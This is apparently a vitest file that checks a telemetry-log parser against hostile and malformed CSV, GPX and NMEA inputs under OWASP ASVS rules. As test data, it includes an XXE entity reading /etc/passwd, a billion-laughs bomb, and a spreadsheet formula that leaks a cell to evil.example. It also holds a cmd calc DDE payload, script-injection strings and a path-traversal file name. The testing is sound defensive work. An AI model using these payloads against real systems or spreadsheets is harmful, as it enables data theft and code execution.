/**
 * Hostile and broken logs (tests/fixtures/bad/, listed in its README.md) through the path ingest
 * takes: the first 64 KB → detectFormat(head, fileName) → parseLog. Each either yields samples
 * with named warnings or throws a ParseError that says where and what was expected — never another
 * error type. Requirements: OWASP ASVS 4.0.3 level 2, V5 (validation, sanitisation) and V12 (files);
 * entities: W3C XML 1.0 (Fifth Edition) §4; spreadsheet formulas: OWASP "CSV Injection".
 */
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { detectFormat } from "@/lib/parsers/detect-format";
import { readGpxDocument } from "@/lib/parsers/gpx-dom";
import { parseLog, type ParseLogResult } from "@/lib/parsers/parse-log";
import { ParseError, sampleFields, type LogFormat } from "@/lib/parsers/types";
import { WarningLog } from "@/lib/parsers/warnings";
import { byteChunks, collectSamples, type CollectedSamples } from "../../helpers/byte-source";
import { parseErrorOfAsync } from "../../helpers/parse-errors";

const BAD_DIR = path.resolve(process.cwd(), "tests/fixtures/bad");
const HEAD_BYTES = 64 * 1024;

const bytesOf = (name: string) => new Uint8Array(fs.readFileSync(path.join(BAD_DIR, name)));

/** As lib/ingest/ingest-run.ts: format from the head and the file name, then the streaming parser. */
async function ingestLike(bytes: Uint8Array, fileName: string): Promise<{ format: LogFormat; result: ParseLogResult; samples: CollectedSamples }> {
  const head = new TextDecoder("utf-8").decode(bytes.subarray(0, HEAD_BYTES));
  const format = detectFormat(head, fileName);
  const { onBatch, samples } = collectSamples();
  const result = await parseLog(format, byteChunks(bytes, 4096), { onBatch });
  return { format, result, samples };
}

/** The run must be refused with a ParseError (any other error type fails the test). */
const refused = (bytes: Uint8Array, fileName: string) => parseErrorOfAsync(ingestLike(bytes, fileName));

function codes(result: ParseLogResult): string[] {
  return result.warnings.map((w) => w.code).sort();
}

/** Every delivered value is a finite number or NaN (types.ts: NaN = missing). */
function expectFiniteOrNaN(samples: CollectedSamples): void {
  for (const f of sampleFields) for (const v of samples.columns[f]) expect(Number.isFinite(v) || Number.isNaN(v), f).toBe(true);
}

describe("empty and truncated files", () => {
  it("refuses an empty file", async () => {
    // ASVS V12.1.1 (file size within limits, here the lower one) / V5.1.3 (input validated against an allow list of forms)
    const e = await refused(bytesOf("empty.csv"), "empty.csv");
    expect(e.describe()).toBe("The file is empty");
  });

  it("refuses a header without data rows, naming the line after the header", async () => {
    // ASVS V5.1.3: structure is validated; the message says what was expected
    const e = await refused(bytesOf("header-only.csv"), "header-only.csv");
    expect(e.describe()).toBe("line 2: The file has a header row but no data rows");
    expect(e.expected).toBe("data rows below the header");
  });
});

describe("malformed CSV", () => {
  it("keeps the good rows of a file with ragged rows and warns with the first ragged line", async () => {
    // ASVS V5.1.3 / V5.1.4 (structured data validated: field count per row)
    const { format, result, samples } = await ingestLike(bytesOf("ragged-rows.csv"), "ragged-rows.csv");
    expect(format).toBe("csv");
    expect(result.sampleCount).toBe(3);
    expect(samples.columns.tS).toEqual([0, 3, 5]);
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "ragged-row", line: 3, count: 3 }));
  });

  it("refuses a file where most rows are ragged, naming the first one and the expected field count", async () => {
    // ASVS V5.1.3
    const text = "time_s,lat,lon,alt_m\n0,45,7,1\n1,45\n2,45\n3,45\n";
    const e = await refused(new TextEncoder().encode(text), "mostly-ragged.csv");
    expect(e.line).toBe(3);
    expect(e.expected).toBe("4 fields per row");
    expect(e.describe()).toMatch(/^line 3: 3 of 4 rows have a different number of fields than the header \(4\)/);
  });

  it("refuses a file of only delimiters or quotes read as CSV (found by the property tests)", async () => {
    // ASVS V5.1.4. Before the fix in lib/parsers/csv-sniff.ts this was a TypeError ("reading 'map'").
    for (const text of [",", '"', " ,\n", ",,\n,,\n"]) {
      const { onBatch } = collectSamples();
      const e = await parseErrorOfAsync(parseLog("csv", byteChunks(text), { onBatch }));
      expect(e.describe()).toBe("line 1: The file has no header row, only empty fields");
      expect(e.expected).toBe("a header row of column names");
    }
    // detectFormat turns these away before the CSV parser sees them.
    expect((await refused(new TextEncoder().encode(",,\n,,\n"), "commas.csv")).describe()).toBe("This does not look like a text log (CSV, GPX or NMEA 0183)");
  });

  it("refuses binary junk named .csv as not a text log", async () => {
    // ASVS V12.2.1 (file content matches the expected type, not just the extension)
    const e = await refused(bytesOf("binary-junk.csv"), "binary-junk.csv");
    expect(e.describe()).toBe("This does not look like a text log (CSV, GPX or NMEA 0183)");
  });

  it("refuses a single 1 MB line (generated here) with the line number", async () => {
    // ASVS V12.1.1 / V5.1.4 (bounded record length): 1 MiB + 2 characters with delimiters, no line break
    const line = "0," + "1,".repeat((1 << 19) + 1);
    const e = await refused(new TextEncoder().encode(line), "one-line.csv");
    expect(e.describe()).toBe("line 1: This line is longer than 1 MB; this is not a CSV telemetry log");
    expect(e.expected).toBe("lines of at most 1 MB");
  });

  it("refuses a header line over 1 MB even when data rows follow in the same chunk", async () => {
    // ASVS V5.1.4. Before the fix in lib/parsers/csv.ts (readHead) this read "line 2: … no data rows".
    const text = "time,lat," + "x".repeat(1 << 20) + "\n0,1,2\n";
    const e = await refused(new TextEncoder().encode(text), "long-header.csv");
    expect(e.describe()).toBe("line 1: This line is longer than 1 MB; this is not a CSV telemetry log");
  });

  it("refuses a data row over 1 MB, naming its line", async () => {
    // ASVS V5.1.4
    const text = "time_s,lat,lon\n0,45,7\n1,45," + "7".repeat((1 << 20) + 5) + "\n2,45,7\n";
    const e = await refused(new TextEncoder().encode(text), "long-row.csv");
    expect(e.describe()).toBe("line 3: This line is longer than 1 MB; this is not a CSV telemetry log");
  });
});

describe("impossible values", () => {
  it("drops NaN, Infinity, 1e400 and out-of-range coordinates with warnings, delivering only finite numbers or NaN", async () => {
    // ASVS V5.1.4 (range checks on numbers); types.ts: NaN = missing
    const { result, samples } = await ingestLike(bytesOf("nan-infinity-range.csv"), "nan-infinity-range.csv");
    expect(result.sampleCount).toBe(7);
    expectFiniteOrNaN(samples);
    // Rows 2–5 (lines 3–6) lose their position; altitude 1e400 (line 7) is dropped.
    expect(samples.columns.lat.map((v) => Number.isNaN(v))).toEqual([false, true, true, true, true, false, false]);
    expect(Number.isNaN(samples.columns.altM[5])).toBe(true);
    expect(Number.isNaN(samples.columns.voltageV[4])).toBe(true);
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "out-of-range", column: "lat", line: 3, count: 3 }));
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "out-of-range", column: "lon", line: 6, message: expect.stringMatching(/-181 is outside ±180°/) }));
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "out-of-range", column: "alt_m", line: 7, message: "Found 1e400; the value is dropped" }));
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "out-of-range", column: "voltage_v", message: "Found -Infinity; the value is dropped" }));
  });

  it("keeps rows whose time repeats or goes backwards, in file order, with warnings", async () => {
    // ASVS V5.1.4 (sequence checks reported, data not silently reordered)
    const { result, samples } = await ingestLike(bytesOf("time-backwards-duplicates.csv"), "time-backwards-duplicates.csv");
    expect(samples.columns.tS).toEqual([0, 1, 1, 0.5, 2]);
    expect(codes(result)).toEqual(["duplicate-time", "time-backwards"]);
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "duplicate-time", line: 4, column: "time_s" }));
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "time-backwards", line: 5, column: "time_s" }));
  });
});

describe("broken GPX", () => {
  it("refuses a .gpx that is not XML at all", async () => {
    // ASVS V12.2.1: the extension alone does not make it GPX
    const e = await refused(bytesOf("not-xml.gpx"), "not-xml.gpx");
    expect(e.describe()).toBe("This does not look like a text log (CSV, GPX or NMEA 0183)");
  });

  it("names xmldom's line and column for GPX that is not well-formed", async () => {
    // ASVS V5.1.4 / W3C XML 1.0 §2.1 (well-formedness)
    const e = await refused(bytesOf("unclosed.gpx"), "unclosed.gpx");
    expect(e.line).toBe(4);
    expect(e.expected).toBe("well-formed XML");
    expect(e.describe()).toMatch(/^line 4, column "\d+": The GPX file is not well-formed XML: Opening and ending tag mismatch/);
  });

  it("refuses the not-XML text when it is read as GPX anyway", async () => {
    // ASVS V5.1.4: parseLog("gpx") on its own still answers with a ParseError
    const { onBatch } = collectSamples();
    const e = await parseErrorOfAsync(parseLog("gpx", byteChunks(bytesOf("not-xml.gpx")), { onBatch }));
    expect(e.describe()).toMatch(/The GPX file is not well-formed XML|root element/);
  });

  it("refuses GPX with no track points", async () => {
    // ASVS V5.1.3
    const e = await refused(bytesOf("no-points.gpx"), "no-points.gpx");
    expect(e.describe()).toBe("The GPX file contains no track points");
    expect(e.expected).toBe("at least one <trkpt>");
  });
});

describe("XML entities are never expanded (W3C XML 1.0 §4.2, §4.4)", () => {
  it("does not read an external entity SYSTEM \"file:///etc/passwd\"", async () => {
    // ASVS V5.5.2 (XML parser restrictive, XXE disabled) / V12.3.1 (no user-submitted paths read)
    const { result, samples } = await ingestLike(bytesOf("xxe-file.gpx"), "xxe-file.gpx");
    expect(result.sampleCount).toBe(2);
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "dtd-ignored", line: 2 }));
    // The reference in <ele> stays literal text, so the value reads as missing.
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "bad-value", column: "ele", message: expect.stringContaining('"&xxe;"') }));
    expect(Number.isNaN(samples.columns.altM[0])).toBe(true);
    expect(JSON.stringify(result)).not.toMatch(/root:|\/bin\/|nologin/);
    const { root } = readGpxDocument(new TextDecoder().decode(bytesOf("xxe-file.gpx")), new WarningLog());
    const text = root.textContent ?? "";
    expect(text).not.toMatch(/root:|\/bin\//);
    expect(text.length).toBeLessThan(500);
  });

  it("does not expand a billion-laughs entity bomb", async () => {
    // ASVS V5.5.2 / V12.1.1 (resources bounded): &lol9; would be 10^9 × "lol" (3 GB) if expanded
    const { result } = await ingestLike(bytesOf("billion-laughs.gpx"), "billion-laughs.gpx");
    expect(result.sampleCount).toBe(2);
    expect(result.warnings).toContainEqual(expect.objectContaining({ code: "dtd-ignored", message: expect.stringContaining("left unexpanded") }));
    expect(JSON.stringify(result).length).toBeLessThan(2000);
    const { root } = readGpxDocument(new TextDecoder().decode(bytesOf("billion-laughs.gpx")), new WarningLog());
    const text = root.textContent ?? "";
    expect(text.length).toBeLessThan(500);
    expect(text).not.toContain("lollol");
  });
});

describe("NMEA 0183 checksums", () => {
  it("skips sentences with a wrong or missing checksum and keeps the valid ones", async () => {
    // ASVS V5.1.4 (integrity of structured data): NMEA 0183 checksum = XOR of the bytes between $ and *
    const { format, result, samples } = await ingestLike(bytesOf("bad-checksums.nmea"), "bad-checksums.nmea");
    expect(format).toBe("nmea");
    expect(result.sampleCount).toBe(2);
    expect(samples.columns.tS).toEqual([0, 3]);
    // Lines 3 and 4 carry a wrong checksum, line 5 none: one "skipped-junk" warning counts all three.
    // The fixture's 1994 date (DePriest's example) is before 2000, so it is also warned about as bogus.
    expect(result.warnings).toEqual([
      expect.objectContaining({ code: "skipped-junk", line: 3, count: 3 }),
      expect.objectContaining({ code: "bogus-date", line: 2, count: 2 }), // the RMCs of lines 2 and 7
    ]);
  });

  it("refuses a log in which no sentence has a valid checksum", async () => {
    // ASVS V5.1.3
    const e = await refused(bytesOf("all-bad-checksums.nmea"), "all-bad-checksums.nmea");
    expect(e.describe()).toBe("No NMEA 0183 position sentences (GGA, RMC) found");
    expect(e.expected).toBe("GGA or RMC sentences");
  });

  it("refuses a 1 MB NMEA line (generated here) with its line number", async () => {
    // ASVS V12.1.1 / V5.1.4
    const text = "$GPGGA,123519,4807.038,N\r\n$GPGGA," + "1".repeat(1_000_001);
    const e = await refused(new TextEncoder().encode(text), "long.nmea");
    expect(e.line).toBe(2);
    expect(e.describe()).toBe("line 2: Line 2 is longer than 1000000 characters; this does not look like a text log");
  });
});

describe("text that is dangerous elsewhere is kept as inert data", () => {
  it("keeps spreadsheet formulas in a mode column as plain text (neutralised on CSV export, not here)", async () => {
    // OWASP "CSV Injection"; ASVS V5.3.2 (output encoding where it is output: lib/exports/events-csv.ts)
    const { result } = await ingestLike(bytesOf("formula-injection.csv"), "=HYPERLINK(\"http://evil.example\",\"x\").csv");
    expect(result.sampleCount).toBe(6);
    expect(result.modeNames).toEqual([
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      "+SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(A1:A2)",
      "=1+1",
      "MANUAL",
    ]);
    // Nothing was evaluated: a formula never turns into a number in another column.
    expect(result.warnings).toEqual([]);
  });

  it("keeps <script> in a CSV mode name verbatim as text, never interpreted", async () => {
    // ASVS V5.3.3 (escaping is the renderer's job; the parser neither strips nor decodes)
    const { result } = await ingestLike(bytesOf("script-mode.csv"), "script-mode.csv");
    expect(result.modeNames).toEqual(["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "MANUAL"]);
  });

  it("reads GPX with <script> in names without passing the names on", async () => {
    // ASVS V5.3.3: GPX names are not part of the sample stream or the summary
    const { result } = await ingestLike(bytesOf("script-name.gpx"), "script-name.gpx");
    expect(result.sampleCount).toBe(2);
    expect(result.warnings).toEqual([]);
    expect(JSON.stringify(result)).not.toMatch(/script|onerror/);
  });

  it("parses content under a path-traversal file name; the name only breaks format ties", async () => {
    // ASVS V12.3.1 (file name not used as a path by the parser; object keys: lib/ingest/object-key.ts)
    const { format, result } = await ingestLike(bytesOf("traversal-name.csv"), "../../etc/passwd.csv");
    expect(format).toBe("csv");
    expect(result.sampleCount).toBe(3);
    expect(JSON.stringify(result)).not.toContain("passwd");
  });
});
